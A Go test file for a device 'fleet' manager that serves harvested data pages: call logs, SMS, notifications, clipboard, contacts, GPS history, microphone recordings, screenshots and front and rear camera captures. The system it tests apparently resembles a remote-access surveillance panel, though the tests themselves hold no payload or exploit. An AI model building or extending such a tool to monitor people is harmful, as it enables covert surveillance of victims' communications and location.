package fleet

import (
	"context"
	"encoding/json"
	"errors"
	"testing"
	"time"

	"fleetmaster/storage"
)

func connectedManager(t *testing.T, clientID string) (*Manager, storage.Store) {
	t.Helper()
	m, store, _ := newTestManager(t)
	if err := m.Connect(context.Background(), clientID, &fakeTransport{}, nil); err != nil {
		t.Fatalf("Connect: %v", err)
	}
	return m, store
}

func TestGetPageUnknownClientAndPage(t *testing.T) {
	t.Parallel()
	m, _ := connectedManager(t, "dev-1")
	ctx := context.Background()

	_, err := m.GetPage(ctx, "never-seen", PageCalls, "")
	if !errors.Is(err, ErrUnknownClient) {
		t.Errorf("expected ErrUnknownClient, got %v", err)
	}
	// Unknown client wins even with a filter set
	_, err = m.GetPage(ctx, "never-seen", PageCalls, "5551234")
	if !errors.Is(err, ErrUnknownClient) {
		t.Errorf("expected ErrUnknownClient with filter, got %v", err)
	}

	_, err = m.GetPage(ctx, "dev-1", Page("selfies"), "")
	if !errors.Is(err, ErrUnknownPage) {
		t.Errorf("expected ErrUnknownPage, got %v", err)
	}
	_, err = m.GetPage(ctx, "dev-1", Page("selfies"), "anything")
	if !errors.Is(err, ErrUnknownPage) {
		t.Errorf("expected ErrUnknownPage with filter, got %v", err)
	}
}

func TestPageTableCoversAllPages(t *testing.T) {
	t.Parallel()

	pages := []Page{
		PageCalls, PageSMS, PageNotifications, PageWifi, PageContacts,
		PagePermissions, PageClipboard, PageApps, PageFiles, PageDownloads,
		PageMicrophone, PageGPS, PageInfo, PageLockDevice, PageScreenshot,
		PageScreenRecord, PageRearCam, PageFrontCam,
	}
	for _, p := range pages {
		if _, ok := pageViews[p]; !ok {
			t.Errorf("page %q has no view", p)
		}
	}
	if len(pageViews) != len(pages) {
		t.Errorf("view table has %d entries, expected %d", len(pageViews), len(pages))
	}
}

func TestCallsPageSuffixFilter(t *testing.T) {
	t.Parallel()
	m, store := connectedManager(t, "dev-1")
	ctx := context.Background()

	base := time.Date(2025, 4, 1, 9, 0, 0, 0, time.UTC)
	for i, phone := range []string{"14085551234", "4085551234", "555123", "908551234"} {
		err := store.AppendCall(ctx, "dev-1", &storage.CallEntry{
			PhoneNo: phone,
			Date:    base.Add(time.Duration(i) * time.Minute),
		})
		if err != nil {
			t.Fatalf("AppendCall: %v", err)
		}
	}

	// The filter matches on exact equality of the last 6 characters of
	// both sides: every stored number ending "551234" matches, "555123"
	// does not.
	got, err := m.GetPage(ctx, "dev-1", PageCalls, "4085551234")
	if err != nil {
		t.Fatalf("GetPage: %v", err)
	}
	calls := got.([]*storage.CallEntry)
	if len(calls) != 3 {
		t.Fatalf("expected 3 matches, got %d: %v", len(calls), calls)
	}
	for _, c := range calls {
		if suffix(c.PhoneNo, 6) != "551234" {
			t.Errorf("non-matching entry leaked: %q", c.PhoneNo)
		}
	}

	// Unfiltered: all entries, newest first
	got, err = m.GetPage(ctx, "dev-1", PageCalls, "")
	if err != nil {
		t.Fatalf("GetPage unfiltered: %v", err)
	}
	all := got.([]*storage.CallEntry)
	if len(all) != 4 {
		t.Fatalf("expected 4 calls, got %d", len(all))
	}
	if !all[0].Date.After(all[1].Date) {
		t.Error("calls should be newest-first")
	}
}

func TestCallsFilterExactSuffixOnly(t *testing.T) {
	t.Parallel()
	m, store := connectedManager(t, "dev-1")
	ctx := context.Background()

	now := time.Now().UTC().Truncate(time.Second)
	for _, phone := range []string{"555123", "55123", "5551230"} {
		if err := store.AppendCall(ctx, "dev-1", &storage.CallEntry{PhoneNo: phone, Date: now}); err != nil {
			t.Fatalf("AppendCall: %v", err)
		}
	}

	got, err := m.GetPage(ctx, "dev-1", PageCalls, "555123")
	if err != nil {
		t.Fatalf("GetPage: %v", err)
	}
	calls := got.([]*storage.CallEntry)
	if len(calls) != 1 || calls[0].PhoneNo != "555123" {
		t.Errorf("last-6 filter must be exact: got %v", calls)
	}
}

func TestSMSPageSuffixFilter(t *testing.T) {
	t.Parallel()
	m, store := connectedManager(t, "dev-1")
	ctx := context.Background()

	now := time.Now().UTC().Truncate(time.Second)
	for _, addr := range []string{"14085551234", "15550009999"} {
		if err := store.AppendSMS(ctx, "dev-1", &storage.SMSEntry{Address: addr, Date: now}); err != nil {
			t.Fatalf("AppendSMS: %v", err)
		}
	}

	got, err := m.GetPage(ctx, "dev-1", PageSMS, "551234")
	if err != nil {
		t.Fatalf("GetPage: %v", err)
	}
	sms := got.([]*storage.SMSEntry)
	if len(sms) != 1 || sms[0].Address != "14085551234" {
		t.Errorf("unexpected sms filter result: %v", sms)
	}
}

func TestNotificationsPageAppFilter(t *testing.T) {
	t.Parallel()
	m, store := connectedManager(t, "dev-1")
	ctx := context.Background()

	now := time.Now().UTC().Truncate(time.Second)
	for _, app := range []string{"com.example.mail", "com.example.chat", "com.example.mail"} {
		if err := store.AppendNotification(ctx, "dev-1", &storage.NotificationEntry{AppName: app, PostTime: now}); err != nil {
			t.Fatalf("AppendNotification: %v", err)
		}
	}

	got, err := m.GetPage(ctx, "dev-1", PageNotifications, "com.example.mail")
	if err != nil {
		t.Fatalf("GetPage: %v", err)
	}
	notifs := got.([]*storage.NotificationEntry)
	if len(notifs) != 2 {
		t.Fatalf("expected 2 mail notifications, got %d", len(notifs))
	}
	// Exact match only, no substring matching
	got, _ = m.GetPage(ctx, "dev-1", PageNotifications, "mail")
	if len(got.([]*storage.NotificationEntry)) != 0 {
		t.Error("app-name filter must be exact")
	}
}

func TestWifiPage(t *testing.T) {
	t.Parallel()
	m, store := connectedManager(t, "dev-1")
	ctx := context.Background()

	nowState := json.RawMessage(`{"ssid":"office"}`)
	logState := json.RawMessage(`[{"ssid":"home"}]`)
	if err := store.PutSnapshot(ctx, "dev-1", storage.SectionWifiNow, nowState); err != nil {
		t.Fatalf("PutSnapshot now: %v", err)
	}
	if err := store.PutSnapshot(ctx, "dev-1", storage.SectionWifiLog, logState); err != nil {
		t.Fatalf("PutSnapshot log: %v", err)
	}

	got, err := m.GetPage(ctx, "dev-1", PageWifi, "")
	if err != nil {
		t.Fatalf("GetPage: %v", err)
	}
	view := got.(map[string]interface{})
	if string(view["now"].(json.RawMessage)) != string(nowState) {
		t.Errorf("wifi now mismatch: %v", view["now"])
	}
	if string(view["log"].(json.RawMessage)) != string(logState) {
		t.Errorf("wifi log mismatch: %v", view["log"])
	}
}

func TestSnapshotPages(t *testing.T) {
	t.Parallel()
	m, store := connectedManager(t, "dev-1")
	ctx := context.Background()

	sections := map[Page]string{
		PageContacts:    storage.SectionContacts,
		PagePermissions: storage.SectionPermissions,
		PageApps:        storage.SectionApps,
		PageFiles:       storage.SectionCurrentFolder,
		PageLockDevice:  storage.SectionLockState,
	}
	for page, section := range sections {
		data := json.RawMessage(`{"section":"` + section + `"}`)
		if err := store.PutSnapshot(ctx, "dev-1", section, data); err != nil {
			t.Fatalf("PutSnapshot(%s): %v", section, err)
		}
		got, err := m.GetPage(ctx, "dev-1", page, "")
		if err != nil {
			t.Fatalf("GetPage(%s): %v", page, err)
		}
		if string(got.(json.RawMessage)) != string(data) {
			t.Errorf("page %s: got %s, want %s", page, got, data)
		}
	}
}

func TestDownloadPagesFilterByMediaType(t *testing.T) {
	t.Parallel()
	m, store := connectedManager(t, "dev-1")
	ctx := context.Background()

	now := time.Now().UTC().Truncate(time.Second)
	byType := map[Page]string{
		PageDownloads:    storage.MediaDownload,
		PageMicrophone:   storage.MediaVoiceRecording,
		PageScreenshot:   storage.MediaScreenshot,
		PageScreenRecord: storage.MediaScreenRecording,
		PageRearCam:      storage.MediaRearCamera,
		PageFrontCam:     storage.MediaFrontCamera,
	}
	for _, mediaType := range byType {
		err := store.AppendDownload(ctx, "dev-1", &storage.DownloadRecord{
			Time: now, Type: mediaType, OriginalName: mediaType + ".bin", Path: mediaType + ".bin",
		})
		if err != nil {
			t.Fatalf("AppendDownload(%s): %v", mediaType, err)
		}
	}

	for page, mediaType := range byType {
		got, err := m.GetPage(ctx, "dev-1", page, "")
		if err != nil {
			t.Fatalf("GetPage(%s): %v", page, err)
		}
		recs := got.([]*storage.DownloadRecord)
		if len(recs) != 1 || recs[0].Type != mediaType {
			t.Errorf("page %s: expected one %q record, got %v", page, mediaType, recs)
		}
	}
}

func TestInfoAndGPSPages(t *testing.T) {
	t.Parallel()
	m, store := connectedManager(t, "dev-1")
	ctx := context.Background()

	got, err := m.GetPage(ctx, "dev-1", PageInfo, "")
	if err != nil {
		t.Fatalf("GetPage(info): %v", err)
	}
	client := got.(*storage.Client)
	if client.ClientID != "dev-1" {
		t.Errorf("info page returned wrong record: %v", client)
	}

	t1 := time.Date(2025, 4, 1, 9, 0, 0, 0, time.UTC)
	for i := 0; i < 2; i++ {
		err := store.AppendLocation(ctx, "dev-1", &storage.LocationSample{
			Latitude: float64(i), Longitude: float64(i), Date: t1.Add(time.Duration(i) * time.Minute),
		})
		if err != nil {
			t.Fatalf("AppendLocation: %v", err)
		}
	}
	got, err = m.GetPage(ctx, "dev-1", PageGPS, "")
	if err != nil {
		t.Fatalf("GetPage(gps): %v", err)
	}
	samples := got.([]*storage.LocationSample)
	if len(samples) != 2 || !samples[0].Date.After(samples[1].Date) {
		t.Errorf("gps history should be newest-first: %v", samples)
	}
}
